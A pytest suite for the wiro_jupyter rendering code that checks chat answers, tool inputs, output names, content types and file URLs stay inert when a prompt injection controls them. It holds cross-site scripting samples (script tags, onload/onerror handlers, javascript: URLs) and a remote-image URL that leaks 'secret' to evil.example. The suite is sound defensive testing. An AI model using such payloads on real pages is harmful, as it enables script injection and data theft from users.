"""Hostile model output stays inert in every bundle and widget trait we emit (`wiro_jupyter._render`).

An answer, an agent's tool input, an output's name or content type, or a file URL is chosen by whoever
controls the model's input (a prompt injection). Each test below gets such values through the real path
where there is one: the emulator's Dify apps echo the user's message into their answer, `wiro/chat-llm`
answers from its prompt, and `wiro/named-output` declares exactly the name and content type it is given.
The HTML is parsed (never grepped): no element that runs or loads code, no event handler, and every
URL http(s) or an inert `data:` URL; remote images only with `WIRO_JUPYTER_REMOTE_IMAGES=1`.
"""

from __future__ import annotations

import re
import time
import uuid
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from conftest import elements
from hostile import HOSTILE, HOSTILE_NAME, HOSTILE_STEM, HOSTILE_URLS, PAYLOADS

from wiro_jupyter import Wiro
from wiro_jupyter._journal import JournalEntry, JournalList
from wiro_jupyter._models import Model, ModelList, Parameter
from wiro_jupyter._outputs import Output
from wiro_jupyter._render import (
    REMOTE_IMAGES_ENV,
    data_url,
    html_bundle,
    items_html,
    load_items,
    output_bundle,
    render_markdown,
    safe_url,
    task_bundle,
)
from wiro_jupyter.chat._messages import AgentThought, ChatFile, ChatMessage
from wiro_jupyter.dify._sync import WbotChat
from wiro_jupyter.emulator import Emulator
from wiro_jupyter.widgets import ChatView, OutputsView, TaskView

RUNS_OR_LOADS_CODE = {"script", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "svg", "math", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "srcset", "xlink:href", "data", "background", "cite"}
INERT_URL = re.compile(
    r"(https?://|data:(image/(png|jpeg|gif|webp)|(audio|video)/[a-z0-9][a-z0-9.+-]*|application/octet-stream);base64,)",
    re.IGNORECASE,
)
LOADS_ON_DISPLAY = {"img", "audio", "video", "source", "track", "input"}


@dataclass
class Parsed:
    """What an HTML fragment would make a browser do: its elements, handlers, URLs, styles and visible text."""

    tags: set[str]
    handlers: list[str]
    urls: list[tuple[str, str, str]] = field(default_factory=list)  # (tag, attribute, value)
    styles: list[str] = field(default_factory=list)
    text: str = ""


def parse(fragment: str) -> Parsed:
    tags, handlers = elements(fragment)
    parsed = Parsed(tags, handlers)
    texts: list[str] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            for name, value in attrs:
                if name.lower() in URL_ATTRIBUTES:
                    parsed.urls.append((tag, name.lower(), value or ""))
                elif name.lower() == "style":
                    parsed.styles.append(value or "")

        def handle_data(self, data: str) -> None:
            texts.append(data)

    Collect(convert_charrefs=True).feed(fragment)
    parsed.text = "".join(texts)
    return parsed


def assert_inert(fragment: str, *, remote_images: bool = False) -> Parsed:
    """Nothing in `fragment` can run code, and showing it requests nothing from another server."""
    parsed = parse(fragment)
    assert not parsed.tags & RUNS_OR_LOADS_CODE, parsed.tags & RUNS_OR_LOADS_CODE
    assert parsed.handlers == []
    for tag, attribute, value in parsed.urls:
        assert attribute in ("href", "src"), (tag, attribute, value)
        assert INERT_URL.match(value), (tag, attribute, value[:80])
        if tag in LOADS_ON_DISPLAY and not remote_images:
            assert value.lower().startswith("data:"), (tag, value[:80])  # a request made by merely displaying
    for style in parsed.styles:
        assert not re.search(r"url\(|expression\(|javascript:|@import", style, re.IGNORECASE), style
    return parsed


def assert_bundle_inert(bundle: dict[str, Any]) -> Parsed:
    assert "text/markdown" not in bundle  # front ends render it with its raw HTML
    assert "image/svg+xml" not in bundle and "application/javascript" not in bundle
    return assert_inert(bundle["text/html"])


def bundle_of(widget: Any) -> dict[str, Any]:
    data, _metadata = widget._repr_mimebundle_()
    return dict(data)


# ------------------------------------------------------------------------------------------------ primitives


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.test/x.png", "https://a.test/x.png"),
        (" http://a.test/ ", "http://a.test/"),
        ("data:image/png;base64,AAAA", "data:image/png;base64,AAAA"),
        ("data:audio/wav;base64,AAAA", "data:audio/wav;base64,AAAA"),
        ("data:application/octet-stream;base64,AA", "data:application/octet-stream;base64,AA"),
        *[(url, "") for url in HOSTILE_URLS],
        ("data:image/png,not-base64", ""),
        ("data:text/plain;base64,AAAA", ""),
        ("\x01javascript:alert(1)", ""),
        ("", ""),
    ],
)
def test_safe_url_keeps_http_and_inert_data_only(url: str, expected: str) -> None:
    assert safe_url(url) == expected


@pytest.mark.parametrize(
    ("content_type", "prefix"),
    [
        ("image/png", "data:image/png;base64,"),
        ("IMAGE/JPG", "data:image/jpeg;base64,"),
        ("video/mp4; codecs=avc1", "data:video/mp4;base64,"),
        ("image/svg+xml", "data:application/octet-stream;base64,"),
        ("text/html", "data:application/octet-stream;base64,"),
        ('text/html" onload="x', "data:application/octet-stream;base64,"),
        ("", "data:application/octet-stream;base64,"),
    ],
)
def test_data_urls_never_carry_an_active_type(content_type: str, prefix: str) -> None:
    url = data_url(content_type, b"<svg onload=alert(1)>")
    assert url.startswith(prefix) and safe_url(url) == url


def test_hostile_markdown_renders_as_text_links_and_no_remote_image(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(REMOTE_IMAGES_ENV, raising=False)
    parsed = assert_inert(render_markdown(HOSTILE))
    for payload in PAYLOADS[:4]:
        assert payload in parsed.text  # shown, as text
    assert ("a", "href", "https://evil.example/?q=secret") in parsed.urls and "img" not in parsed.tags
    assert "[link](javascript:window.__pwned=5)" in parsed.text  # not a link


def test_remote_images_load_only_with_the_switch(monkeypatch: pytest.MonkeyPatch) -> None:
    answer = "Look: ![x](https://evil.example/?q=secret)"
    message = ChatMessage(answer=answer)
    monkeypatch.delenv(REMOTE_IMAGES_ENV, raising=False)
    for fragment in (render_markdown(answer), message._repr_mimebundle_()["text/html"]):
        parsed = assert_inert(fragment)
        assert "img" not in parsed.tags and parsed.urls == [("a", "href", "https://evil.example/?q=secret")]
    monkeypatch.setenv(REMOTE_IMAGES_ENV, "1")  # read at render time
    for fragment in (render_markdown(answer), message._repr_mimebundle_()["text/html"]):
        parsed = assert_inert(fragment, remote_images=True)
        assert parsed.urls == [("img", "src", "https://evil.example/?q=secret")]


def test_the_last_sanitizer_drops_what_a_caller_forgot_to_escape() -> None:
    careless = (
        f'<img src="{HOSTILE_URLS[2]}" alt="x" onerror="window.__pwned=15"><a href="{HOSTILE_URLS[1]}">d</a>'
        '<img src="https://tracker.example/pixel.png"><audio controls src="https://evil.example/a.wav"></audio>'
        '<div style="position:fixed;background:url(https://evil.example/)">x</div><script>window.__pwned=16</script>'
    )
    parsed = assert_bundle_inert(html_bundle(careless, "x"))
    assert parsed.urls == [] and {"img", "a", "audio", "div"} <= parsed.tags


def test_catalogue_and_journal_tables_escape_server_text() -> None:
    model = Model(slug="evil/<script>", title=PAYLOADS[0], description=HOSTILE, parameters=[Parameter.from_raw({"id": "<b>"})])
    assert PAYLOADS[0] in assert_bundle_inert(model._repr_mimebundle_()).text
    listing = ModelList([model])
    assert "evil/<script>" in assert_bundle_inert(listing._repr_mimebundle_()).text
    now = time.time()
    entry = JournalEntry(
        rowid=1, task_id="7", token="t", model="wiro/named-output", parameters={}, api_url="", status="task_postprocess_end",
        created=now, updated=now, outputs=[{"name": HOSTILE_NAME}], saved=[HOSTILE_NAME], error=None,
    )  # fmt: skip
    assert HOSTILE_NAME in assert_bundle_inert(JournalList([entry])._repr_mimebundle_()).text


# ------------------------------------------------------------------------------------------------ chat


@pytest.fixture
def bot(emu: Emulator) -> WbotChat:
    return WbotChat(api_key=emu.dify_chat_key, base_url=emu.dify_url, user="test-" + uuid.uuid4().hex[:10])


def hostile_parts(message: ChatMessage) -> ChatMessage:
    """`message` with hostile thinking, agent steps and files added (the app's stream could carry each)."""
    message.thinking = HOSTILE
    message.agent_thoughts = [
        AgentThought(id="1", thought=HOSTILE, tool=PAYLOADS[0], tool_input={"q": "`</code>" + PAYLOADS[1]}, observation=HOSTILE),
    ]
    message.files = [
        ChatFile(type="image", url=url, filename=HOSTILE_NAME, mime_type='image/png" onload="x', belongs_to="assistant")
        for url in HOSTILE_URLS
    ] + [ChatFile(type="document", url="https://files.example/report.pdf", filename=HOSTILE_NAME, belongs_to="assistant")]
    return message


def test_chat_message_of_a_hostile_answer_is_inert(bot: WbotChat) -> None:
    message = bot.send(HOSTILE)  # the emulator's app echoes it into its answer: hostile over real sockets
    assert PAYLOADS[1] in message.answer
    bundle = message._repr_mimebundle_()
    assert set(bundle) == {"text/plain", "text/html"} and bundle["text/plain"] == message.answer
    parsed = assert_bundle_inert(bundle)
    assert "Echo:" in parsed.text and PAYLOADS[1] in parsed.text  # the answer is there, as text

    parsed = assert_bundle_inert(hostile_parts(message)._repr_mimebundle_())
    assert parsed.text.count(HOSTILE_NAME) == len(message.files)  # each file by its name, none as markup
    # No hostile URL survived: the one file link, and the answer's remote image as a link to it.
    assert {url for _tag, _attribute, url in parsed.urls} == {
        "https://files.example/report.pdf",
        "https://evil.example/?q=secret",
    }
    assert PAYLOADS[0] in parsed.text  # the tool's name, as text


def test_chat_view_bundle_and_traits_of_a_hostile_turn(bot: WbotChat) -> None:
    view = ChatView(bot, show_input=False)
    message = view.send(HOSTILE)
    hostile_parts(message)
    view.add_message(message)  # shown again with the hostile parts (as a chat's history would be)
    assert view.wait_files(30)
    data = bundle_of(view)
    parsed = assert_bundle_inert(data)
    assert "Echo:" in parsed.text and PAYLOADS[1] in parsed.text
    for turn in view.turns:
        for key in ("html", "thinking_html"):
            assert_inert(turn.get(key, ""))
        for f in turn.get("files", []):
            assert f["url"] == safe_url(f["url"]) and f["src"] == safe_url(f["src"])
            assert f["src"] == "" or f["src"].startswith("data:")  # inline only what the kernel fetched
    assistant = view.turns[-1]
    assert {f["url"] for f in assistant["files"]} == {"", "https://files.example/report.pdf"}


def test_chat_files_are_fetched_by_the_kernel_and_embedded(emu: Emulator) -> None:
    agent = WbotChat(api_key=emu.dify_agent_key, base_url=emu.dify_url, user="test-" + uuid.uuid4().hex[:10])
    view = ChatView(agent, show_input=False)
    message = view.send("a red cat")
    assert view.wait_files(30)
    (image,) = view.turns[-1]["files"]
    assert image["url"].startswith("http") and image["src"].startswith("data:image/png;base64,")
    for bundle in (bundle_of(view), message._repr_mimebundle_()):
        parsed = assert_bundle_inert(bundle)
        assert [t for t, a, v in parsed.urls if a == "src"] == ["img"]  # the image, from its data: URL


# ------------------------------------------------------------------------------------------------ task outputs


@pytest.mark.parametrize(
    ("suffix", "content_type", "text", "kind"),
    [
        (".png", "image/png", "png", "image"),
        (".html", 'text/html" onload="window.__pwned=20', HOSTILE, "text"),
        (".svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=21'></svg>", "image"),
        (".md", "text/markdown", HOSTILE, "text"),
        (".csv", "text/csv", "a,b\n<script>window.__pwned=22</script>,x", "text"),
        (".json", "application/json", '{"<script>": "' + PAYLOADS[0].replace('"', "'") + '"}', "json"),
        (".mp4", 'video/mp4"><script>window.__pwned=23</script>', "not a video", "video"),
        (".exe", "application/x-msdownload", "MZ" + PAYLOADS[1], "file"),
    ],
)
def test_task_outputs_with_hostile_names_and_types_are_inert(
    wiro: Wiro, suffix: str, content_type: str, text: str, kind: str
) -> None:
    name = HOSTILE_STEM + suffix
    task = wiro.run("wiro/named-output", name=name, contenttype=content_type, text=text, count=2)
    assert [(o.name, o.content_type, o.kind) for o in task.outputs] == [(name, content_type, kind)] * 2  # as declared
    bundle = task_bundle(task)
    assert_bundle_inert(bundle)
    assert bundle["text/plain"].count(name) == 2
    assert_bundle_inert(output_bundle(task.outputs[0]))

    view = OutputsView(task)
    assert view.wait(30)
    assert_bundle_inert(view.static_bundle())
    for item in view.items:  # the traits js/media.js reads
        assert_inert(item["html"])
        assert item["url"] == safe_url(item["url"]) and item["src"] == safe_url(item["src"])
        assert item["src"] == "" or item["src"].startswith("data:")
    task_view = TaskView(task)
    assert task_view.wait(30)
    assert_bundle_inert(bundle_of(task_view))


def test_llm_answer_from_a_hostile_prompt_is_inert(wiro: Wiro) -> None:
    task = wiro.run("wiro/chat-llm", prompt=HOSTILE)
    assert PAYLOADS[1] in task.text  # the model repeated it
    parsed = assert_bundle_inert(task._repr_mimebundle_())
    assert PAYLOADS[1] in parsed.text
    view = OutputsView(task)
    assert view.wait(30)
    assert PAYLOADS[1] in assert_inert(view.answer_html).text
    assert_inert(view.thinking_html)
    assert_bundle_inert(view.static_bundle())


def test_outputs_with_hostile_urls_are_neither_fetched_nor_linked() -> None:
    outputs = [Output(name=HOSTILE_NAME, url=url, content_type='image/png" onerror="x') for url in HOSTILE_URLS]
    items = load_items(outputs)
    assert [i["url"] for i in items] == [""] * len(HOSTILE_URLS) and all(i["src"] == "" for i in items)
    parsed = assert_bundle_inert(html_bundle(items_html(items), ""))
    assert parsed.urls == [] and parsed.text.count(HOSTILE_NAME) == len(HOSTILE_URLS)
    for output in outputs:
        assert_bundle_inert(output_bundle(output))
    # Items are ours, but even one carrying a hostile src is cleaned on the way out.
    forged = [{**items[0], "kind": kind, "src": url} for kind in ("image", "audio", "file") for url in HOSTILE_URLS]
    assert assert_bundle_inert(html_bundle(items_html(forged), "")).urls == []
